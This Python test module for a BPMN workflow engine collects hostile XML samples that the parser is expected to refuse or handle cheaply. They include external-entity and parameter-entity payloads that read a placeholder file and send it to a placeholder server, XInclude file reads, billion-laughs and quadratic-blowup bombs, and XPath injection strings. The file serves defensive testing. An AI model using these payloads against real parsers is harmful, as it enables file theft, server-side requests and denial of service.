"""Feindliche Dateien: XML that wants to read, to reach out, or to grow; one entry per attack.

``CANARY`` stands for the address of a file nobody may read, ``BEACON`` for a server nobody may
call; :func:`aimed` puts real ones in.
"""

from collections.abc import Callable

from tests.unit.engine.process_builder import bpmn, chain, extensions, node, script, user

CANARY = "urn:kanarienvogel"
BEACON = "urn:leuchtfeuer"
PLAIN = bpmn(chain(user("a")))
INJECTION = "zz&quot;] | //*[@name=&quot;geheim"


def aimed(source: bytes, canary: str, beacon: str) -> bytes:
    """Put the addresses in, whatever the encoding."""
    for encoding in ("utf-8", "utf-16-le"):
        source = source.replace(CANARY.encode(encoding), canary.encode(encoding))
        source = source.replace(BEACON.encode(encoding), beacon.encode(encoding))
    return source


def with_entity(doctype: str, encoding: str = "utf-8") -> bytes:
    """A script with the entity ``x``: what is in there is quoted back as an unknown name."""
    body = bpmn(chain(script("s", "y = &x;"))).decode().split("?>", 1)[1]
    return f'<?xml version="1.0" encoding="{encoding}"?>{doctype}{body}'.encode(encoding)


def laughs(levels: int, times: int) -> str:
    inner = "".join(
        f'<!ENTITY a{level} "{f"&a{level - 1};" * times}">' for level in range(1, levels)
    )
    return f'<!DOCTYPE d [<!ENTITY a0 "lol">{inner}<!ENTITY x "&a{levels - 1};">]>'


def quadratic() -> bytes:
    doctype = f'<!DOCTYPE d [<!ENTITY y "{"z" * 100_000}"><!ENTITY x "{"&y;" * 100_000}">]>'
    return with_entity(doctype)


def parameter_entities() -> bytes:
    return with_entity(
        f'<!DOCTYPE d [<!ENTITY % file SYSTEM "{CANARY}">'
        f"<!ENTITY % all \"<!ENTITY x SYSTEM '{BEACON}?%file;'>\">%all;]>"
    )


def within_process(inner: str) -> bytes:
    return bpmn(chain(user("a")) + inner)


def with_start_tag(inner: str) -> bytes:
    return PLAIN.replace(b'id="D"', f'id="D" {inner}'.encode())


def padded(unit: str, count: int) -> bytes:
    """Many small elements where the engine takes no notice of them."""
    return bpmn(chain(node("userTask", "a", extensions(unit * count))))


#: ends in a refusal by deployment
REFUSED: dict[str, Callable[[], bytes]] = {
    "external entity": lambda: with_entity(f'<!DOCTYPE d [<!ENTITY x SYSTEM "{CANARY}">]>'),
    "external entity over the network": lambda: with_entity(
        f'<!DOCTYPE d [<!ENTITY x SYSTEM "{BEACON}">]>'
    ),
    "external document type": lambda: with_entity(f'<!DOCTYPE d SYSTEM "{BEACON}"><!-- -->'),
    "document type from a file": lambda: with_entity(f'<!DOCTYPE d SYSTEM "{CANARY}">'),
    "parameter entities": parameter_entities,
    "billion laughs": lambda: with_entity(laughs(10, 10)),
    "laughs under the library's own limit": lambda: with_entity(laughs(4, 8)),
    "quadratic blow-up": quadratic,
    "entity in UTF-16": lambda: with_entity(
        f'<!DOCTYPE d [<!ENTITY x SYSTEM "{CANARY}">]>', "utf-16"
    ),
    "entity in UTF-7": lambda: with_entity(
        f'<!DOCTYPE d [<!ENTITY x SYSTEM "{CANARY}">]>', "utf-7"
    ),
    "inclusion of a file": lambda: within_process(
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{CANARY}" parse="text"/>'
    ),
    "inclusion over the network": lambda: within_process(
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{BEACON}"/>'
    ),
    "XPath in an id": lambda: bpmn(chain(user(INJECTION))),
    "XPath in a reference": lambda: bpmn(
        chain(node("receiveTask", "r", messageRef=INJECTION)),
        extra='<bpmn:message id="m1" name="geheim"/>',
    ),
    "XPath in a flow": lambda: bpmn(
        chain(user("a")).replace('targetRef="a"', f'targetRef="{INJECTION}"')
    ),
    "an id that is there twice": lambda: bpmn(chain(user("a"), user("b"), user("a"))),
    "three million elements": lambda: padded("<a/>", 3_000_000),
    "nesting beyond all reason": lambda: within_process("<a>" * 100_000 + "</a>" * 100_000),
    "nesting just below the library's limit": lambda: within_process("<a>" * 240 + "</a>" * 240),
    "not closed": lambda: b"<a>" * 300_000,
    "bytes": lambda: bytes(range(256)) * 4_000,
    "attribute twice": lambda: with_start_tag('a="1" a="2"'),
    "unknown encoding": lambda: PLAIN.replace(b"UTF-8", b"x-geheim"),
}

#: is accepted or refused; either way it may cost next to nothing
BOUNDED: dict[str, Callable[[], bytes]] = {
    "many small elements": lambda: padded("<a/>", 220_000),
    "hundred thousand attributes": lambda: with_start_tag(
        " ".join(f'a{number}=""' for number in range(90_000))
    ),
    "an attribute of one megabyte": lambda: bpmn(chain(node("userTask", "a", name="x" * 980_000))),
    "an id of one megabyte": lambda: bpmn(chain(user("a" * 300_000))),
    "many namespaces": lambda: with_start_tag(
        " ".join(f'xmlns:n{number}="urn:{number}"' for number in range(30_000))
    ),
    "one namespace again and again": lambda: padded(f'<n:a xmlns:n="urn:{"n" * 60}"/>', 11_000),
    "many references": lambda: padded('<bpmn:a xRef="b"/>', 50_000),
    "many properties": lambda: bpmn(
        chain(
            node(
                "userTask",
                "a",
                extensions(
                    "<spiffworkflow:properties>"
                    + '<spiffworkflow:property name="n" value="v"/>' * 18_000
                    + "</spiffworkflow:properties>"
                ),
            )
        )
    ),
    "an inclusion inside an explanation": lambda: bpmn(
        chain(
            node(
                "userTask",
                "a",
                '<bpmn:documentation><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                f'href="{CANARY}" parse="text"/></bpmn:documentation>',
            )
        )
    ),
    "a style sheet": lambda: PLAIN.replace(
        b"?>", f'?><?xml-stylesheet type="text/xsl" href="{BEACON}"?>'.encode(), 1
    ),
    "a schema to fetch": lambda: with_start_tag(f'xsi:schemaLocation="urn:x {BEACON}"'),
    "a comment in a script": lambda: bpmn(
        chain(node("scriptTask", "s", "<bpmn:script>x = <!-- 1 + -->2</bpmn:script>"))
    ),
}
